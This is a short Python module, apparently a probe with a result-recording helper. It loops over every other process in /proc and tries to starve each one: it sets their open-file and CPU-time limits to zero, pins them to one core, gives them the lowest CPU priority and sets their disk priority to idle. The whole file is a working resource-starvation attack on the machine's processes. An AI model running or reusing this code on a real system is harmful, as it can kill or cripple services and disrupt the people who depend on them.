"""Takes from other processes what they need: open files, processor time, a processor."""
import ctypes
import os
import resource
from attempt import attempt, outcome


async def run(inputs):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
        attempt(f"files of {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)))
        attempt(f"time of {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)))
        attempt(f"processor of {pid}", lambda: os.sched_setaffinity(pid, {0}) is None)
        attempt(f"priority of {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) is None)
        attempt(f"disk priority of {pid}", lambda: libc.ioprio_set(1, pid, 3 << 13) == 0)
    return outcome()
